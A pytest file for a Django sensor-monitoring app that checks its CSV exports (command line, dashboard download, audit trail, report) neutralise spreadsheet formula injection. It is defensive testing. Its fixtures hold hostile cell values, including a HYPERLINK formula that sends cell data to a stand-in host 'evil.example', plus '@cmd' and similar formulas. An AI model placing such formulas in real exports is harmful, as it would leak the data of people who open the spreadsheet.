"""Every CSV we write (readings, positions, the audit trail, the report's readings, the CLI exports)
neutralises cells a spreadsheet would run as formulas, and keeps numbers as numbers."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command

from monitoring.audit import audit_context
from monitoring.models import AlarmRule, Channel, Device, Excursion, Position, Reading
from monitoring.reports import build_report, render_csv
from tests.conftest import FIXED_NOW
from tests.factories import http_session, make_account, make_user

# What a hostile vendor (or a user typing a name) could put into text that ends up in a CSV.
FORMULAS = {
    "device": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "channel": "+SUM(1,1)",
    "vendor_id": "@cmd",
    "error": "-2+3",
    "site": "\tTAB",
}
START = FIXED_NOW - timedelta(hours=2)


@pytest.fixture
def hostile_device(db):
    account = make_account(name="\rCR account")
    device = Device.objects.create(
        account=account, vendor_id=FORMULAS["vendor_id"], name=FORMULAS["device"], kind="vehicle"
    )
    channel = Channel.objects.create(
        device=device, name=FORMULAS["channel"], quantity="temperature", unit="C"
    )
    Reading.objects.bulk_create(
        [
            Reading(channel=channel, timestamp=START, value=-18.5),
            Reading(
                channel=channel, timestamp=START + timedelta(minutes=10), value=None, error=FORMULAS["error"]
            ),
            Reading(channel=channel, timestamp=START + timedelta(minutes=20), value=9.25),
        ]
    )
    Position.objects.create(device=device, timestamp=START, latitude=-33.925, longitude=-70.5, speed_kmh=0.0)
    return device


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_neutralised(rows: list[list[str]]) -> None:
    """No cell starts with a formula character, except numbers (which a spreadsheet reads as numbers)."""
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start so


def test_the_readings_and_positions_exports_of_the_command_line_neutralise_formulas(hostile_device, tmp_path):
    readings, positions = tmp_path / "readings.csv", tmp_path / "positions.csv"
    call_command("export_readings", "--output", str(readings))
    call_command("export_positions", "--output", str(positions))
    rows = list(csv.DictReader(readings.open(newline="")))
    assert_neutralised(rows_of(readings.read_text()))
    first = rows[0]
    assert first["device_name"] == "'" + FORMULAS["device"] and first["channel"] == "'+SUM(1,1)"
    assert first["device_id"] == "'@cmd" and first["account"] == "'\rCR account"
    assert [r["value"] for r in rows] == ["-18.5", "", "9.25"]  # numbers as typed, the minus kept
    assert rows[1]["error"] == "'-2+3"
    (position,) = csv.DictReader(positions.open(newline=""))
    assert (position["latitude"], position["longitude"]) == ("-33.925", "-70.5")
    assert position["device_name"] == "'" + FORMULAS["device"]


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_dashboard_download_neutralises_formulas_over_http(live_server, hostile_device):
    make_user("qa")
    session = http_session(live_server.url)
    answer = session.get(
        f"{live_server.url}/devices/{hostile_device.pk}/readings.csv",
        params={"range": "custom", "start": START.date().isoformat(), "end": START.date().isoformat()},
        timeout=30,
    )
    assert answer.status_code == 200 and answer.headers["Content-Type"].startswith("text/csv")
    rows = rows_of(answer.text)
    assert_neutralised(rows)
    header, *data = rows
    assert header[:4] == ["vendor", "account", "device_id", "device_name"]
    assert [row[8] for row in data] == ["-18.5", "", "9.25"]
    assert {row[3] for row in data} == {"'" + FORMULAS["device"]}


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_the_audit_trail_export_neutralises_formulas_but_keeps_limits_as_numbers(live_server, hostile_device):
    channel = hostile_device.channels.get()
    with audit_context(reason="@SUM(A1:A9)"):
        AlarmRule.objects.create(name="-20 °C freezer", channel=channel, low_limit=-25, high_limit=-15)
    make_user("qa")
    session = http_session(live_server.url)
    answer = session.get(
        f"{live_server.url}/audit/", params={"model": "monitoring.alarmrule", "format": "csv"}, timeout=30
    )
    assert answer.status_code == 200
    rows = rows_of(answer.text)
    assert_neutralised(rows)
    by_field = {row["field"]: row for row in csv.DictReader(io.StringIO(answer.text))}
    assert by_field["name"]["new"] == "'-20 °C freezer" and by_field["name"]["reason"] == "'@SUM(A1:A9)"
    assert (by_field["low_limit"]["new"], by_field["high_limit"]["new"]) == ("-25", "-15")


def test_the_report_csv_neutralises_formulas(hostile_device):
    channel = hostile_device.channels.get()
    Excursion.objects.create(channel=channel, started_at=START, ended_at=START + timedelta(minutes=30))
    text = render_csv(build_report(START - timedelta(hours=1), FIXED_NOW, charts=False)).decode()
    assert_neutralised(rows_of(text))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {r["device_name"] for r in rows} == {"'" + FORMULAS["device"]}
    assert [r["value"] for r in rows] == ["-18.5", "", "9.25"] and rows[1]["error"] == "'-2+3"
